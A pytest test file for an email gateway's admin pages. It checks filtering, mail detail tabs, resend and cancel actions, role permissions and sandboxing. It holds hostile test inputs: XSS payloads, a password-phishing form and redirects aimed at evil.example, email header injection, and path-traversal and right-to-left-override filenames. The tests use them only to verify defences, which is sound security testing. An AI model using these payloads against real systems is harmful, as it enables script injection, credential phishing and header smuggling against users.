"""Mails on pages: what is shown of them, to whom, and what operators may do. One gateway that sends for real."""

from __future__ import annotations

import asyncio
from base64 import b64encode
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote
from uuid import UUID

import pytest
import pytest_asyncio

from gateway.access import Role, Scope
from gateway.services.email.pages.preview import POLICY, POLICY_WITH_IMAGES
from gateway.web.keys import create_key
from tests.support.eventually import eventually
from tests.support.pages import ORIGIN, PAGES, Dashboard, Document, statements
from tests.support.smtp_server import Answer, ScriptedSmtp
from tests.support.web import ADMIN, serving, settings_for

pytestmark = pytest.mark.asyncio(loop_scope="module")

REFUSED = "refused@example.com"
PIXEL = b"\x89PNG\r\n\x1a\n pixel"
HTML = '<style>p { color: red }</style><p>Dear Ada</p><img src="cid:logo">'


def refuse_one(_phase: str, subject: str, _seen: int) -> Answer | None:
    return (550, "5.1.1 no such user") if subject == REFUSED else None


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def smtp() -> AsyncIterator[ScriptedSmtp]:
    server = ScriptedSmtp()
    server.script.rule = refuse_one
    await server.start()
    yield server
    await server.stop()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def shared(shared_database_url: str, smtp: ScriptedSmtp) -> AsyncIterator[Dashboard]:
    settings = settings_for(shared_database_url, smtp_port=smtp.port, smtp_secure="none", email_rate_max=1000)
    async with serving(settings) as (client, runtime):
        yield Dashboard(client, runtime)


@pytest.fixture
def board(shared: Dashboard) -> Dashboard:
    """Everybody begins as an administrator."""
    shared.http.cookies.clear()
    shared.sign_in()
    return shared


async def send(board: Dashboard, status: str = "sent", **fields: Any) -> str:
    """Accept a mail; answers its id when it has this status."""
    given = {"from": "shop@shop.example", "to": "ada@example.com", "subject": "Your receipt", "text": "Dear Ada"}
    body = {name: value for name, value in (given | fields).items() if value is not None}
    answer = await board.http.post("/api/v1/emails", json=body, headers=ADMIN)
    assert answer.status_code == 202, answer.text
    mail_id = str(answer.json()["data"]["id"])

    async def there() -> bool:
        return await status_of(board, mail_id) == status

    await eventually(there)
    return mail_id


async def status_of(board: Dashboard, mail_id: str) -> str:
    return str(await board.pool.fetchval("SELECT status FROM emails WHERE id = $1", UUID(mail_id)))


async def scheduled(board: Dashboard, **fields: Any) -> str:
    """One that nobody sends."""
    return await send(board, "scheduled", scheduledAt=(datetime.now(UTC) + timedelta(days=1)).isoformat(), **fields)


async def change(board: Dashboard, mail_id: str, column: str, value: Any) -> None:
    """What no caller can send, as if it had been written by hand."""
    await board.pool.execute(f"UPDATE emails SET {column} = $2 WHERE id = $1", UUID(mail_id), value)


def mails_on(page: Document) -> list[str]:
    prefix = f"{PAGES}/emails/"
    found = [link.removeprefix(prefix) for link in page.links() if link.startswith(prefix)]
    return [mail_id for mail_id in found if len(mail_id) == 36]


def once_of(page: Document) -> str:
    return next(field["value"] or "" for field in page.all("input") if field.get("name") == "once")


async def test_the_list_shows_mails_newest_first_with_their_status(board: Dashboard) -> None:
    first, second = await send(board), await send(board, "failed", to=REFUSED)
    page = await board.page("/emails")
    page.sound()
    assert mails_on(page)[:2] == [second, first]
    for words in ("Your receipt", REFUSED, "failed", "sent", "5.1.1 no such user"):
        assert words in page.text
    assert f"{PAGES}/emails" in [link["href"] for link in page.all("a") if link.get("aria-current")]


@pytest.mark.parametrize(
    "query",
    [
        "status=scheduled&to=eve@example.com",
        "to=EVE%40example.com",
        "tag=kind&to=eve@example.com",
        "tag=kind:receipt%204",
        "q=rarest",
        "q=RAREST+subject&status=scheduled",
        "q=order-77",
        "from=2026-01-01T00:00:00Z&to=eve@example.com",
    ],
)
async def test_the_address_holds_the_filter(board: Dashboard, query: str) -> None:
    if not await board.pool.fetchval("SELECT count(*) FROM emails WHERE subject LIKE 'Rarest%'"):
        tags = [{"name": "kind", "value": "receipt 4"}]
        await scheduled(board, to="Eve <eve@example.com>", subject="Rarest subject", tags=tags, referenceId="order-77")
    await scheduled(board)
    page = await board.page(f"/emails?{query}")
    page.sound()
    assert len(mails_on(page)) == 1
    assert "Rarest subject" in page.text


@pytest.mark.parametrize(
    "query",
    ["status=lost", "to=%00", "cursor=x", "from=yesterday", "tag=" + "x" * 400, "q=" + "x" * 400],
    ids=["status", "to", "cursor", "from", "tag", "q"],
)
async def test_a_filter_that_means_nothing_is_told_beside_the_form(board: Dashboard, query: str) -> None:
    page = await board.page(f"/emails?{query}")
    page.sound()
    assert query.partition("=")[0] in page.text
    assert not mails_on(page)


async def test_nothing_found_differs_from_nothing_there(board: Dashboard) -> None:
    page = await board.page("/emails?to=nobody@example.com")
    assert "No e-mail matches. Clear the filter" in page.text


@pytest.mark.parametrize("cursor", ["0001-01-01T00:00:00+00:00", "9999-12-31T23:59:59+00:00"])
async def test_a_cursor_of_any_time_is_answered(board: Dashboard, cursor: str) -> None:
    text = b64encode(f"{cursor} {UUID(int=0)}".encode()).decode()
    await board.page(f"/emails?to=ada@example.com&cursor={quote(text)}")


@pytest.mark.parametrize("query", ["", "to=many@example.com&", "q=many&"])
async def test_the_list_goes_on_with_a_cursor_and_keeps_its_filter(board: Dashboard, query: str) -> None:
    have = await board.pool.fetchval("SELECT count(*) FROM emails WHERE subject = 'Many'")
    later = (datetime.now(UTC) + timedelta(days=1)).isoformat()
    mail = {"from": "a@shop.example", "to": "many@example.com", "subject": "Many", "text": "x", "scheduledAt": later}
    for _ in range((52 - have + 25) // 26):
        answer = await board.http.post("/api/v1/emails/batch", json=[mail] * 26, headers=ADMIN)
        assert answer.status_code == 202, answer.text
    seen: list[str] = []
    address = f"/emails?{query}status=scheduled"
    for _ in range(5):
        page = await board.page(address)
        seen += mails_on(page)
        following = [link for link in page.links() if "cursor=" in link]
        if not following:
            break
        address = following[0].removeprefix(PAGES)
        assert "status=scheduled" in address
    wanted = await board.pool.fetch(
        "SELECT id FROM emails WHERE status = 'scheduled' AND ($1 = '' OR subject = 'Many') "
        "ORDER BY created_at DESC, id DESC",
        query,
    )
    assert seen == [str(row["id"]) for row in wanted]


async def test_a_look_by_text_says_how_far_it_went(board: Dashboard, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("gateway.services.email.pages.store.LOOKED_MAX", 2)
    oldest = await scheduled(board, subject="Needle")
    for _ in range(3):
        await scheduled(board)
    page = await board.page("/emails?q=needle")
    assert "2 mails looked at, there are more" in page.text
    further = next(link for link in page.links() if "cursor=" in link)
    assert mails_on(await board.page(further.removeprefix(PAGES))) == [oldest]


async def test_an_address_finds_its_jobs_and_lists_say_to_whom_they_are(board: Dashboard) -> None:
    await scheduled(board, to=["zoe@named.example", "b@named.example"])
    page = await board.page("/jobs?q=zoe%40named.example")
    page.sound()
    assert "zoe@named.example and 1 more email.send" in page.text
    assert "No job matches." in (await board.page("/jobs?q=zoe%40other.example")).text


async def test_failed_mails_lead_to_their_jobs_where_many_are_retried(board: Dashboard) -> None:
    await send(board, "failed", to=REFUSED, tags=[{"name": "kind", "value": "lost"}])
    failed = await board.page(f"/emails?status=failed&to={REFUSED}&tag=kind%3Alost")
    [jobs] = [link for link in failed.links() if "/queue/email-queue?" in link]
    shown = await board.page(jobs.removeprefix(PAGES))
    assert f"{REFUSED} email.send" in shown.text
    assert "All that match:" in shown.text
    assert not [link for link in (await board.page("/emails?q=x")).links() if "/queue/email-queue?" in link]


async def test_pages_cost_few_statements(board: Dashboard, monkeypatch: pytest.MonkeyPatch) -> None:
    mail_id = await scheduled(board, html="<p>x</p>")
    paths = {"/emails": 1, f"/emails/{mail_id}": 6, f"/emails/{mail_id}?tab=text": 7, f"/emails/{mail_id}/body": 2}
    for path, most in paths.items():
        with statements(monkeypatch) as counted:
            await board.http.get(PAGES + path)
        assert 0 < len(counted) <= most + 1, (path, counted)  # one is for the navigation


async def test_a_mail_shows_all_that_is_known_of_it(board: Dashboard) -> None:
    mail_id = await send(
        board,
        to=["ada@example.com", REFUSED],
        cc="bob@example.com",
        tags=[{"name": "kind", "value": "receipt"}],
        referenceType="order",
        referenceId="54",
    )
    page = await board.page(f"/emails/{mail_id}")
    page.sound()
    for words in (
        "shop@shop.example",
        "ada@example.com",
        "bob@example.com",
        "kind:receipt",
        "order 54",
        "accepted",
        "sent",
    ):
        assert words in page.text
    assert "550 5.1.1 no such user" in page.text
    assert f"{mail_id}@shop.example" in page.text
    job = f"{PAGES}/queue/email-queue/{await job_of(board, mail_id)}"
    assert job in page.links()
    assert f"{PAGES}/emails/{mail_id}" in (await board.page(job.removeprefix(PAGES))).links()


async def job_of(board: Dashboard, mail_id: str) -> UUID:
    found: UUID = await board.pool.fetchval("SELECT job_id FROM emails WHERE id = $1", UUID(mail_id))
    return found


@pytest.mark.parametrize(
    ("tab", "words"),
    [
        ("html", "Load images"),
        ("text", "Dear Ada in plain words"),
        ("source", "Content-Type: multipart/alternative"),
        ("headers", "Message-ID"),
        ("headers", "X-Campaign"),
        ("attachments", "receipt.pdf"),
        ("attempts", "250"),
        ("check", "Without List-Unsubscribe-Post"),
    ],
)
async def test_each_tab_is_an_address(board: Dashboard, tab: str, words: str) -> None:
    found = await board.pool.fetchval("SELECT id FROM emails WHERE subject = 'Tabs'")
    mail_id = found or await send(
        board,
        subject="Tabs",
        text="Dear Ada in plain words",
        html=HTML,
        headers={"X-Campaign": "spring", "List-Unsubscribe": "<https://shop.example/u>"},
        attachments=[{"filename": "receipt.pdf", "content": b64encode(b"%PDF").decode()}],
    )
    page = await board.page(f"/emails/{mail_id}?tab={tab}")
    page.sound()
    assert words in page.text
    chosen = [link for link in page.all("a") if link.get("aria-current") and "tab=" in (link["href"] or "")]
    assert [link["href"] for link in chosen] == [f"{PAGES}/emails/{mail_id}?tab={tab}#part"]


async def test_every_attempt_stands_there_with_the_servers_answer(board: Dashboard) -> None:
    mail_id = await send(board, "failed", to=REFUSED)
    page = await board.page(f"/emails/{mail_id}?tab=attempts")
    for words in ("rejected", "550", "5.1.1 no such user", "smtp", "ms"):
        assert words in page.text


async def test_the_body_is_a_page_of_its_own_with_its_own_policy(board: Dashboard) -> None:
    image = {"filename": "l.png", "content": b64encode(PIXEL).decode(), "contentType": "image/png", "contentId": "logo"}
    mail_id = await send(board, html=HTML, attachments=[image])
    frame = (await board.page(f"/emails/{mail_id}")).all("iframe")
    assert frame[0]["src"] == f"{PAGES}/emails/{mail_id}/body"
    assert frame[0]["sandbox"] == ""
    assert frame[0]["title"]
    answer = await board.http.get(frame[0]["src"] or "")
    assert answer.headers["content-security-policy"] == POLICY
    assert POLICY == ("sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'self'")
    assert answer.headers["x-frame-options"] == "SAMEORIGIN"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    assert f'<img src="data:image/png;base64,{b64encode(PIXEL).decode()}">' in answer.text
    assert "<style>p { color: red }</style>" in answer.text


async def test_images_of_others_are_loaded_only_when_asked_for(board: Dashboard) -> None:
    mail_id = await send(board, html='<img src="https://pixel.example/a.png">')
    page = await board.page(f"/emails/{mail_id}?images=1")
    address = page.all("iframe")[0]["src"] or ""
    assert address.endswith("/body?images=1")
    assert (await board.http.get(address)).headers["content-security-policy"] == POLICY_WITH_IMAGES
    assert "img-src https: data:" in POLICY_WITH_IMAGES


async def test_the_source_is_what_the_server_got(board: Dashboard, smtp: ScriptedSmtp) -> None:
    mail_id = await send(board, subject="Grüße", html=HTML, bcc="blind@example.com")
    answer = await board.http.get(f"{PAGES}/emails/{mail_id}/source")
    assert answer.headers["content-type"] == "text/plain; charset=utf-8"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
    sent = next(one for one in smtp.messages if mail_id.encode() in one.data)
    assert answer.content.split() == sent.data.split()
    assert b"blind@example.com" not in answer.content


@pytest.mark.parametrize(
    ("name", "plain", "whole"),
    [
        ("receipt.pdf", "receipt.pdf", "receipt.pdf"),
        ("page.html", "page.html", "page.html"),
        ("Grüße.txt", "Gr__e.txt", "Gr%C3%BC%C3%9Fe.txt"),
        ('a"b;c.txt', "a_b_c.txt", "a_b%3Bc.txt"),
        ("../../etc/passwd", "_.._etc_passwd", "_.._etc_passwd"),
        ("invoice\u202egpj.exe", "invoice_gpj.exe", "invoice_gpj.exe"),
        ("a\r\nSet-Cookie: x=1", "a__Set-Cookie__x_1", "a__Set-Cookie_%20x%3D1"),
        ("...", "file", "file"),
    ],
    ids=["plain", "html", "umlauts", "quotes", "path", "turned", "line breaks", "dots"],
)
async def test_files_are_saved_and_never_shown(board: Dashboard, name: str, plain: str, whole: str) -> None:
    file = {"filename": "x.bin", "content": b64encode(b"<script>1</script>").decode(), "contentType": "text/html"}
    mail_id = await scheduled(board, attachments=[file])
    await board.pool.execute("UPDATE email_attachments SET filename = $2 WHERE email_id = $1", UUID(mail_id), name)
    (await board.page(f"/emails/{mail_id}?tab=attachments")).sound()
    answer = await board.http.get(f"{PAGES}/emails/{mail_id}/attachments/0")
    assert answer.content == b"<script>1</script>"
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-disposition"] == f"attachment; filename=\"{plain}\"; filename*=UTF-8''{whole}"
    assert "set-cookie" not in answer.headers


@pytest.mark.parametrize(
    "path",
    [
        "/emails/x",
        f"/emails/{UUID(int=7)}",
        f"/emails/{UUID(int=7)}/body",
        f"/emails/{UUID(int=7)}/source",
        f"/emails/{UUID(int=7)}/attachments/0",
        f"/emails/{UUID(int=7)}/attachments/-1",
        f"/emails/{UUID(int=7)}/attachments/99999",
    ],
)
async def test_what_is_not_there_is_a_page_too(board: Dashboard, path: str) -> None:
    (await board.page(path, 404)).sound()


async def test_where_no_mails_are_caught_there_is_no_inbox(board: Dashboard) -> None:
    assert (await board.http.get(f"{PAGES}/inbox")).status_code == 404
    assert f"{PAGES}/inbox" not in (await board.page("/emails")).links()


async def test_an_unknown_tab_is_refused_by_name(board: Dashboard) -> None:
    page = await board.page(f"/emails/{await scheduled(board)}?tab=html5", 400)
    assert "tab: must be one of html, text" in page.text


async def test_viewers_see_mails_but_not_what_they_say(board: Dashboard) -> None:
    file = {"filename": "a.txt", "content": b64encode(b"x").decode()}
    mail_id = await send(board, text="The secret plan", html="<p>The secret plan</p>", attachments=[file])
    board.sign_in(Role.VIEWER)
    for tab in ("html", "text", "source", "attachments"):
        page = await board.page(f"/emails/{mail_id}?tab={tab}")
        page.sound()
        assert "admin:content" in page.text
        assert "secret plan" not in page.text
        assert not page.all("iframe")
        assert not page.actions()
    assert "250" in (await board.page(f"/emails/{mail_id}?tab=attempts")).text
    for path in ("body", "source", "attachments/0"):
        (await board.page(f"/emails/{mail_id}/{path}", 403)).sound()
    asked = {"Accept": "application/json"}
    assert "secret plan" not in (await board.http.get(f"{PAGES}/emails/{mail_id}", headers=asked)).text
    for action in ("resend", "cancel", "retry"):
        assert (await board.press(f"/emails/{mail_id}/{action}", once="x1")).status_code == 403


async def test_a_key_with_admin_content_reads_and_changes_nothing(board: Dashboard) -> None:
    mail_id = await send(board, html="<p>The plan</p>")
    key, _ = await create_key(board.pool, "reader", [Scope.ADMIN_READ, Scope.ADMIN_CONTENT], "test")
    board.http.cookies.clear()
    headers = {"Authorization": f"Bearer {key}"}
    assert "The plan" in (await board.http.get(f"{PAGES}/emails/{mail_id}/body", headers=headers)).text
    refused = await board.http.post(f"{PAGES}/emails/{mail_id}/resend", data={"once": "x1"}, headers=headers)
    assert refused.status_code == 403


async def test_viewers_read_no_bodies_of_others_over_json(board: Dashboard) -> None:
    mail_id = await send(board)
    key, _ = await create_key(board.pool, "viewer", [Scope.ADMIN_READ, Scope.EMAILS_READ], "test")
    headers = {"Authorization": f"Bearer {key}"}
    assert (await board.http.get(f"/api/v1/emails/{mail_id}", headers=headers)).status_code == 200
    refused = await board.http.get(f"/api/v1/emails/{mail_id}?include=body", headers=headers)
    assert (refused.status_code, refused.json()["error"]["code"]) == (403, "insufficient_scope")


async def test_secrets_of_headers_and_metadata_are_masked(board: Dashboard) -> None:
    mail_id = await scheduled(board, headers={"X-Api-Key": "hunter2"}, metadata={"token": "hunter2"})
    answer = await board.http.get(f"{PAGES}/emails/{mail_id}?tab=headers", headers={"Accept": "application/json"})
    assert answer.json()["data"]["mail"]["subject"] == "Your receipt"
    assert "hunter2" not in answer.text
    assert "hunter2" not in (await board.page(f"/emails/{mail_id}?tab=headers")).text


async def test_resend_makes_a_new_mail_that_is_linked_both_ways(board: Dashboard) -> None:
    board.sign_in(Role.OPERATOR)
    mail_id = await send(board, cc="bob@example.com")
    once = once_of(await board.page(f"/emails/{mail_id}"))
    answer = await board.press(f"/emails/{mail_id}/resend", once=once, to="ada@example.com")
    assert answer.status_code == 303, answer.text
    new = answer.headers["location"].removeprefix(f"{PAGES}/emails/").partition("?")[0]
    page = await board.page(answer.headers["location"].removeprefix(PAGES))
    assert "This is the new mail, on its way." in page.text
    assert mail_id in mails_on(page)
    assert new in mails_on(await board.page(f"/emails/{mail_id}"))
    row = await board.pool.fetchrow("SELECT to_addresses, cc_addresses, resend_of FROM emails WHERE id = $1", UUID(new))
    assert dict(row or {}) == {
        "to_addresses": ["ada@example.com"],
        "cc_addresses": ["bob@example.com"],
        "resend_of": UUID(mail_id),
    }
    assert (await board.audited())[-1] == ("the operator", "email.resend", mail_id)


async def test_resend_to_others_leaves_cc_out_and_masks_the_audit(board: Dashboard) -> None:
    mail_id = await send(board, cc="bob@example.com")
    answer = await board.press(f"/emails/{mail_id}/resend", once="x1", to="Eve <eve@example.com>, dan@example.com")
    new = answer.headers["location"].removeprefix(f"{PAGES}/emails/").partition("?")[0]
    row = await board.pool.fetchrow("SELECT to_addresses, cc_addresses FROM emails WHERE id = $1", UUID(new))
    assert dict(row or {}) == {"to_addresses": ["eve@example.com", "dan@example.com"], "cc_addresses": []}
    detail = await board.pool.fetchval("SELECT detail::text FROM admin_audit ORDER BY id DESC LIMIT 1")
    assert new in detail
    assert "eve@example.com" not in detail


async def test_a_second_click_sends_nothing_and_a_corrected_form_does(board: Dashboard) -> None:
    mail_id = await send(board)
    rows = len(await board.audited())
    first = await board.press(f"/emails/{mail_id}/resend", once="abc", to="eve@example.com")
    second = await board.press(f"/emails/{mail_id}/resend", once="abc", to="eve@example.com")
    assert second.headers["location"].partition("?")[0] == first.headers["location"].partition("?")[0]
    assert "Nothing was done." in (await board.page(second.headers["location"].removeprefix(PAGES))).text
    other = await board.press(f"/emails/{mail_id}/resend", once="abc", to="dan@example.com")
    assert other.headers["location"].partition("?")[0] != first.headers["location"].partition("?")[0]
    assert len(await board.audited()) == rows + 2


async def test_two_clicks_at_the_same_moment_lead_to_one_mail(board: Dashboard) -> None:
    mail_id = await send(board)
    answers = await asyncio.gather(*(board.press(f"/emails/{mail_id}/resend", once="twice") for _ in range(4)))
    assert [answer.status_code for answer in answers] == [303] * 4
    assert len({answer.headers["location"].partition("?")[0] for answer in answers}) == 1


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"once": "x2", "to": "nobody"}, "to"),
        ({"once": "x2", "to": ", ".join(f"a{n}@example.com" for n in range(51))}, "at most 50"),
        ({"once": "x2", "to": "(" * 3000}, "to: cannot be read"),
        ({"once": "x2", "to": "a@example.com," * 1500}, "to: is longer than 20,000 characters"),
        ({"to": "a@example.com"}, "once: is missing"),
        ({"once": "x" * 65}, "once"),
        ({"once": "../x"}, "once"),
    ],
    ids=["no address", "too many", "nested", "too long", "no once", "long once", "odd once"],
)
async def test_a_resend_that_cannot_be_is_refused_by_name(board: Dashboard, fields: dict[str, str], words: str) -> None:
    mail_id, rows = await send(board), len(await board.audited())
    answer = await board.press(f"/emails/{mail_id}/resend", **fields)
    assert answer.status_code == 400, answer.text
    assert words in Document.of(answer.text).text
    assert len(await board.audited()) == rows


async def test_cancel_is_offered_until_the_mail_is_sent(board: Dashboard) -> None:
    mail_id = await scheduled(board)
    path = f"/emails/{mail_id}/cancel"
    page = await board.page(f"/emails/{mail_id}")
    assert PAGES + path in page.actions()
    assert f"{PAGES}/emails/{mail_id}/resend" not in page.actions()
    answer = await board.press(path)
    assert "Cancelled: it will not be sent." in (await board.page(answer.headers["location"].removeprefix(PAGES))).text
    assert await status_of(board, mail_id) == "cancelled"
    assert (await board.audited())[-1][1:] == ("email.cancel", mail_id)
    assert PAGES + path not in (await board.page(f"/emails/{mail_id}")).actions()
    sent = await send(board)
    assert (await board.press(f"/emails/{sent}/cancel")).status_code == 409
    assert (await board.press(f"/emails/{mail_id}/resend", once="x3")).status_code == 303


async def test_retry_sends_the_same_mail_again(board: Dashboard, smtp: ScriptedSmtp) -> None:
    mail_id = await send(board, "failed", to=REFUSED)
    assert f"{PAGES}/emails/{mail_id}/retry" in (await board.page(f"/emails/{mail_id}")).actions()
    rule, smtp.script.rule = smtp.script.rule, None
    try:
        assert (await board.press(f"/emails/{mail_id}/retry")).status_code == 303

        async def sent() -> bool:
            return await status_of(board, mail_id) == "sent"

        await eventually(sent)
    finally:
        smtp.script.rule = rule
    assert (await board.audited())[-1][1:] == ("email.retry", mail_id)
    refused = await board.press(f"/emails/{mail_id}/retry")
    assert refused.status_code == 409
    assert "only one whose job failed" in Document.of(refused.text).text


async def test_a_mail_without_its_content_is_not_sent_again(board: Dashboard) -> None:
    mail_id = await send(board)
    await change(board, mail_id, "content_removed_at", datetime.now(UTC))
    await change(board, mail_id, "text", None)
    page = await board.page(f"/emails/{mail_id}")
    assert "Retention has removed bodies and files" in page.text
    assert f"{PAGES}/emails/{mail_id}/resend" not in page.actions()
    assert (await board.press(f"/emails/{mail_id}/resend", once="x4")).status_code == 409


async def test_forms_of_other_pages_are_refused(board: Dashboard) -> None:
    mail_id = await scheduled(board)
    evil = {**ORIGIN, "Origin": "https://evil.example"}
    assert (await board.http.post(f"{PAGES}/emails/{mail_id}/cancel", headers=evil)).status_code == 403
    assert await status_of(board, mail_id) == "scheduled"


async def test_the_queue_says_before_a_stop_whether_it_is_empty(board: Dashboard) -> None:
    await scheduled(board)

    async def only_delayed() -> bool:  # jobs of the tests before may still run
        later = await board.pool.fetchval("SELECT count(*) FROM jobs WHERE queue = 'email-queue' AND state = 'delayed'")
        return f"Nothing runs, 0 wait, {later} are delayed." in (await board.page("/queue/email")).text

    await eventually(only_delayed)
    assert "the queue is empty. No replica drains." in (await board.page("/queue/orchestration")).text

    async def draining() -> bool:  # until its next sign of life, which says that it does not
        await board.pool.execute("UPDATE replicas SET draining = true")
        return "1 of 1 replicas that take its jobs drain." in (await board.page("/queue/email")).text

    try:
        await eventually(draining)
    finally:
        await board.pool.execute("UPDATE replicas SET draining = false")


HOSTILE_HTML = {
    "script": "<script>parent.document.title = 'taken'</script>",
    "onerror": '<img src=x onerror="alert(1)">',
    "meta refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "outside css": '<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example";</style>',
    "outside image": '<img src="https://evil.example/pixel.png">',
    "form": '<form action="https://evil.example/" method="post"><input name="password"><button>Go</button></form>',
    "end of the frame": "</iframe></body></html><script>alert(1)</script>",
    "base": '<base href="https://evil.example/"><a href="x" target="_top">x</a>',
}


@pytest.mark.parametrize("html", HOSTILE_HTML.values(), ids=HOSTILE_HTML)
async def test_hostile_html_stays_in_its_sandbox(board: Dashboard, html: str) -> None:
    mail_id = await scheduled(board, html=html, text=html)
    for tab in ("html", "text", "source"):
        page = await board.page(f"/emails/{mail_id}?tab={tab}")
        page.sound()
        assert not [one for one in page.all("meta") if one.get("http-equiv")]
        assert "evil.example" not in " ".join(page.links() + page.actions())
    assert html in (await board.page(f"/emails/{mail_id}?tab=text")).text
    body = await board.http.get(f"{PAGES}/emails/{mail_id}/body")
    assert body.headers["content-security-policy"] == POLICY
    assert html.replace("<link", "<x-link") in body.text


async def test_what_no_policy_forbids_tells_nobody_that_somebody_looks(board: Dashboard) -> None:
    """Connections that a page asks for ahead, and names that browsers look up, are in no Content-Security-Policy."""
    inner = "&lt;link rel=preconnect href=https://evil.example&gt;"
    html = f"<LINK/rel=preconnect href=https://evil.example><p>Hello</p><iframe srcdoc='{inner}'></iframe>"
    body = await board.http.get(f"{PAGES}/emails/{await scheduled(board, html=html)}/body")
    found = Document.of(body.text)
    assert "Hello" in found.text
    assert not found.all("link") + found.all("iframe")
    assert body.headers["x-dns-prefetch-control"] == "off"


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "a\r\nBcc: eve@example.com",
        "abc\u202etxt.exe\u2066",
    ],
    ids=["script", "attribute", "line breaks", "turned"],
)
async def test_hostile_names_and_subjects_stay_text(board: Dashboard, text: str) -> None:
    mail_id = await scheduled(board, html="<p>x</p>", tags=[{"name": "n", "value": "v"}])
    await change(board, mail_id, "subject", text)
    await change(board, mail_id, "from_address", f"{text} <a@shop.example>")
    await change(board, mail_id, "to_addresses", [f"{text} <b@example.com>"])
    await change(board, mail_id, "headers", {"X-Note": text})
    await change(board, mail_id, "tags", [{"name": text, "value": text}])
    for path in ("/emails", f"/emails/{mail_id}", f"/emails/{mail_id}?tab=headers", f"/emails/{mail_id}?tab=check"):
        answer = await board.http.get(PAGES + path)
        assert answer.status_code == 200
        page = Document.of(answer.text)
        page.sound()
        assert "\u202e" not in answer.text
        assert "\u2066" not in answer.text
        assert not [one for one in page.all("img") if one.get("src") == "x"]
    source = await board.http.get(f"{PAGES}/emails/{mail_id}/source")
    assert source.status_code == (409 if "\r\n" in text else 200)
    assert b"\nBcc:" not in source.content


async def test_ten_megabytes_are_shown_in_part_and_kept_whole(board: Dashboard) -> None:
    mail_id = await scheduled(board, html="<p>x</p>")
    huge = "<p>0123456789</p>\n" * 600_000
    await change(board, mail_id, "html", huge)
    await change(board, mail_id, "text", huge)
    for tab in ("html", "text", "source", "check"):
        answer = await board.http.get(f"{PAGES}/emails/{mail_id}?tab={tab}")
        assert answer.status_code == 200
        assert len(answer.content) < 2_000_000
    assert "more characters" in (await board.page(f"/emails/{mail_id}?tab=text")).text
    assert "Gmail cuts it off at 102 KB" in (await board.page(f"/emails/{mail_id}?tab=check")).text
    assert len((await board.http.get(f"{PAGES}/emails/{mail_id}/body")).content) == len(huge)
